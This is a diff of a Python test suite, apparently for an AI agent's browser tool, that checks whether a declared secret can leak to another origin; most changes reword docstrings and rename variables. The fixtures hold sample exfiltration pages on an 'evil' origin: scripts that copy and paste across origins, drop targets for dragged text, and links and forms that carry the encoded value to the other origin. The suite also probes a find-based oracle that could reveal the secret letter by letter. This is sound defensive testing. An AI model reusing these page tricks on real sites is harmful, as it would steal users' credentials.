@@ -1,7 +1,7 @@
 """A declared secret stays at its own origin, whatever the model does with the browser.
 
-Two origins on loopback, both allowed. Each attack also runs with the value not declared (the same text, typed
-literally): then it arrives, which proves that the attack works.
+Two origins on loopback are allowed. Each attack has a control without a declared secret (the same text, typed
+literally): the value arrives, which proves that the attack works.
 """
 
 from __future__ import annotations
@@ -39,7 +39,7 @@ def evil() -> Any:
 
 
 async def sessions(opener: Opener, web: Web, evil: Web) -> Sequence[tuple[BrowserSession, str]]:
-    """(with the value declared, what the model types for it), and the same without: the control."""
+    """(is the value declared, what the model types): the attack and its control."""
     guarded = await opener(ports=(evil.port,), vault=declared(web))
     return [(guarded, NAMED), (await opener(ports=(evil.port,)), CANARY)]
 
@@ -71,7 +71,7 @@ async def test_a_secret_was_copied_and_pasted_at_another_origin(
 
 
 async def test_what_a_page_copies_is_not_pasted_elsewhere(opener: Opener, web: Web, evil: Web) -> None:
-    """The page of the secret's own origin copies it; the other page, or the middle button, pastes it."""
+    """The page at the secret's own origin copies it; the other page, or the middle button, pastes it."""
     web["/"] = "<input aria-label=Q id=q><button onclick=\"q.select();document.execCommand('copy')\">Copy</button>"
     evil["/"] = SINK + (
         "<button onclick=\"s.focus();document.execCommand('paste');navigator.clipboard&&"
@@ -88,7 +88,7 @@ async def test_what_a_page_copies_is_not_pasted_elsewhere(opener: Opener, web: W
         assert await session.page.evaluate(VALUE) == ("" if text == NAMED else CANARY)
 
 
-async def test_keys_that_copy_cut_or_paste_are_told_from_others() -> None:
+async def test_keys_that_copy_cut_or_paste_are_recognised() -> None:
     copying = [
         *(*COPIES, *PASTES, "Control+Numpad0", "Shift+Numpad0", "Meta+C", "Meta+V", "Control+Alt+V", "Alt+Insert"),
         *("Control+Shift+Insert", "Shift+NumpadDecimal", "ControlRight+V", "Control+Copy", "Control+é"),
@@ -124,7 +124,7 @@ async def test_keys_that_copy_cut_or_paste_are_told_from_others() -> None:
 
 
 async def drop_in_frame(session: BrowserSession, web: Web, text: str) -> tuple[ActionResult, list[str]]:
-    """Drags the value out of its field into the first frame of the page; what each frame has got."""
+    """Drags the value out of its field into the first frame of the page; returns what each frame received."""
     await visit(session, web.url())
     await type_text(session, "Q", text)
     await session.execute(Press(keys="Control+A"))
@@ -135,7 +135,7 @@ async def drop_in_frame(session: BrowserSession, web: Web, text: str) -> tuple[A
 
 
 async def test_a_selection_was_dragged_where_another_origin_is_shown(opener: Opener, web: Web, evil: Web) -> None:
-    """Chromium itself gives no drop to a frame of another origin; the page can move one under the pointer."""
+    """Chromium drops nothing into a frame of another origin, but the page can move one under the pointer."""
     drop = "<body><script>for (const t of ['dragover', 'drop']) addEventListener(t, e => { e.preventDefault();"
     drop += "if (t == 'drop') window.dropped = e.dataTransfer.getData('text') })</script>"
     web["/own"] = evil["/"] = drop
@@ -225,10 +225,10 @@ LINKS = ("v", "[...v].reverse().join('')", "btoa('u:' + v)", "[...v].map(c => c.
 @pytest.mark.parametrize("how", ["click", "Enter", "at a place"])
 async def test_a_link_carried_a_secret_to_another_origin(opener: Opener, web: Web, evil: Web, how: str) -> None:
     evil["/in"] = "<p>thank you</p>"
-    for made in LINKS:
+    for link in LINKS:
         web["/"] = f"""<a id=a href=/x style="position:absolute;left:8px;top:90px"><b>Next page</b></a>
             <input aria-label=Q id=q><script>q.oninput = () => {{
-            const v = q.value; a.href = '{evil.url("/in")}?' + {made} }}</script>"""
+            const v = q.value; a.href = '{evil.url("/in")}?' + {link} }}</script>"""
         for session, text in await sessions(opener, web, evil):
             evil.requests.clear()
             await visit(session, web.url())
@@ -242,12 +242,12 @@ async def test_a_link_carried_a_secret_to_another_origin(opener: Opener, web: We
                 case _:
                     result = await session.execute(ClickAt(x=20, y=100))
             came = evil.hits("/in") > 0
-            assert (result.status, came) == ((Status.OK, True) if text == CANARY else (Status.BLOCKED, False)), made
+            assert (result.status, came) == ((Status.OK, True) if text == CANARY else (Status.BLOCKED, False)), link
             await session.close()
 
 
 async def test_forms_within_the_scope_are_sent(opener: Opener, web: Web, evil: Web) -> None:
-    """Also one that a script sends, and one to another origin of the same secret."""
+    """Includes a form that a script sends, and one to another origin of the same secret."""
     web["/in"] = evil["/in"] = "<p>thank you</p>"
     web["/"] = f"""<form method=post action="javascript:void(0)"><input aria-label=A name=a></form>
         <form method=post action="{evil.url("/in")}"><input aria-label=B name=b><button>Send</button></form>
@@ -294,7 +294,7 @@ async def test_a_model_typed_a_value_literally_at_another_origin(
 
 
 async def test_a_model_typed_a_value_in_parts(opener: Opener, web: Web, evil: Web) -> None:
-    """By two actions, key by key, or around what the page has put into the field."""
+    """By two actions, key by key, or around text that the page put into the field."""
     evil["/"] = SINK
     ways: dict[str, list[Action]] = {
         "parts": [Type(ref=1, text=CANARY[:6]), Type(ref=1, text=CANARY[6:], clear=False)],
@@ -340,22 +340,22 @@ async def test_a_model_answered_a_dialog_with_a_value(opener: Opener, web: Web, 
         assert await session.page.title() == ("null" if secret == NAMED else CANARY[::-1])
 
 
-async def found(session: BrowserSession, text: str) -> ActionResult:
+async def search(session: BrowserSession, text: str) -> ActionResult:
     return await session.execute(Find(text=text))
 
 
-async def test_find_told_the_value_letter_by_letter(opener: Opener, web: Web, evil: Web) -> None:
-    """The same answers for every guess, right or wrong, but for the guess itself."""
+async def test_find_revealed_the_value_letter_by_letter(opener: Opener, web: Web, evil: Web) -> None:
+    """`find` gives the same output for right and wrong guesses, except for the guess itself."""
     web["/"] = f"<p>Your key: {CANARY}</p><p>{CANARY[::-1]}</p><p>Kes<b>trel</b></p><p>zebra</p>"
     for session, secret in await sessions(opener, web, evil):
         await visit(session, web.url())
-        told = {}
+        outputs = {}
         for guess in (CANARY[:4], CANARY[3:8], CANARY[-3:], CANARY[::-1][:5], CANARY[:11], "Qqqq"):
-            told[guess] = (await found(session, guess)).output.replace(guess, "GUESS")
-        right = {guess: text for guess, text in told.items() if guess != CANARY[:4]}
+            outputs[guess] = (await search(session, guess)).output.replace(guess, "GUESS")
+        right = {guess: text for guess, text in outputs.items() if guess != CANARY[:4]}
         assert (len(set(right.values())) == 1) == (secret == NAMED)
-        assert "Kestrel" in (await found(session, CANARY[:4])).output, "what is no value is found"
-        assert "zebra" in (await found(session, "ZEBRA")).output
+        assert "Kestrel" in (await search(session, CANARY[:4])).output, "a text that is no value is matched"
+        assert "zebra" in (await search(session, "ZEBRA")).output
         if secret == NAMED:
-            assert f"Your key: {NAMED}" in (await found(session, "your key")).output
+            assert f"Your key: {NAMED}" in (await search(session, "your key")).output
             assert CANARY not in (await session.observe()).text
